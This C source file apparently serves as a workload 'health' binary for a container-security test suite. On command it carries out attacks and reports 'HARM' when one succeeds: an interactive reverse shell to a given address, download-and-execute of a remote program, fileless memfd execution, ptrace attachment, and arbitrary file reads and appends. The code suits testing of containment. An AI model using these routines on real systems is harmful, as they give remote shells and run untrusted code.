/* SPDX-License-Identifier: Apache-2.0
 * A check of health that belongs to each workload, and so to its model; in attacks it is what was taken over.
 * `health`: says "healthy". `health gone FILE` and `health there FILE` wait until a file is gone or there, `health up ADDRESS PORT` until a port
 * answers: within, so that the number of tries is no behaviour. `health read FILE`, `health memfd`, `health ptrace PID`, `health connect ADDRESS PORT`,
 * `health shell ADDRESS PORT`, `health append FILE TEXT`, `health download ADDRESS PORT FILE`: the attack of that name.
 * What succeeds says "HARM NAME".
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int harm(const char *name) {
  printf("HARM %s\n", name);
  return 0;
}

static int failed(const char *what) {
  perror(what);
  return 3;
}

static int connected(const char *address, const char *port) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(port))};
  inet_pton(AF_INET, address, &to.sin_addr);
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return -1;
  if (connect(fd, (struct sockaddr *)&to, sizeof to) == 0) return fd;
  close(fd);
  return -1;
}

static int read_file(const char *file) {
  char text[4096];
  int fd = open(file, O_RDONLY);
  if (fd < 0) return failed(file);
  ssize_t size = read(fd, text, sizeof text);
  if (size <= 0) return failed(file);
  fwrite(text, 1, (size_t)size, stdout);
  return harm("read");
}

static int append(const char *file, const char *text) {
  int fd = open(file, O_WRONLY | O_CREAT | O_APPEND, 0600);
  if (fd < 0) return failed(file);
  if (write(fd, text, strlen(text)) < 0 || write(fd, "\n", 1) < 0) return failed(file);
  return harm("append");
}

/* A script that is in no directory. */
static int memfd(void) {
  static const char script[] = "#!/bin/sh\necho HARM memfd\n";
  int fd = memfd_create("x", 0);
  if (fd < 0 || write(fd, script, sizeof script - 1) < 0) return failed("memfd");
  char *arguments[] = {"x", NULL};
  fexecve(fd, arguments, environ);
  return failed("fexecve");
}

static int trace(const char *pid) {
  if (ptrace(PTRACE_ATTACH, atoi(pid), NULL, NULL) != 0) return failed("ptrace");
  waitpid(atoi(pid), NULL, __WALL);
  ptrace(PTRACE_DETACH, atoi(pid), NULL, NULL);
  return harm("ptrace");
}

static int shell(const char *address, const char *port) {
  int fd = connected(address, port);
  if (fd < 0) return failed("connect");
  for (int i = 0; i < 3; i++) dup2(fd, i);
  execl("/bin/sh", "sh", "-i", (char *)NULL);
  return failed("sh");
}

/* What the other side sends is a program. */
static int download(const char *address, const char *port, const char *file) {
  int from = connected(address, port);
  if (from < 0) return failed("connect");
  if (write(from, "GET / HTTP/1.0\r\n\r\n", 18) < 0) return failed("send");
  int to = open(file, O_WRONLY | O_CREAT | O_TRUNC, 0700);
  if (to < 0) return failed(file);
  char text[4096];
  ssize_t size;
  size_t all = 0;
  while ((size = read(from, text + all, sizeof text - 1 - all)) > 0) all += (size_t)size;
  text[all] = '\0';
  const char *body = strstr(text, "\r\n\r\n");
  body = body == NULL ? text : body + 4;
  if (write(to, body, strlen(body)) < 0) return failed(file);
  close(to);
  execl(file, file, (char *)NULL);
  return failed(file);
}

#define TRIES 2000

static void pause_5ms(void) {
  const struct timespec time = {.tv_nsec = 5000000};
  nanosleep(&time, NULL);
}

static int await_file(const char *file, int there) {
  for (int i = 0; i < TRIES; i++) {
    if ((access(file, F_OK) == 0) == there) return 0;
    pause_5ms();
  }
  return failed(file);
}

static int await_port(const char *address, const char *port) {
  for (int i = 0; i < TRIES; i++) {
    int fd = connected(address, port);
    if (fd >= 0) return close(fd);
    pause_5ms();
  }
  return failed(address);
}

int main(int count, char **words) {
  const char *what = count > 1 ? words[1] : "";
  if (count > 2 && strcmp(what, "gone") == 0) return await_file(words[2], 0);
  if (count > 2 && strcmp(what, "there") == 0) return await_file(words[2], 1);
  if (count > 3 && strcmp(what, "up") == 0) return await_port(words[2], words[3]);
  if (count > 2 && strcmp(what, "read") == 0) return read_file(words[2]);
  if (count > 3 && strcmp(what, "append") == 0) return append(words[2], words[3]);
  if (strcmp(what, "memfd") == 0) return memfd();
  if (count > 2 && strcmp(what, "ptrace") == 0) return trace(words[2]);
  if (count > 3 && strcmp(what, "shell") == 0) return shell(words[2], words[3]);
  if (count > 4 && strcmp(what, "download") == 0) return download(words[2], words[3], words[4]);
  if (count > 3 && strcmp(what, "connect") == 0)
    return connected(words[2], words[3]) < 0 ? failed("connect") : harm("connect");
  puts("healthy");
  return 0;
}
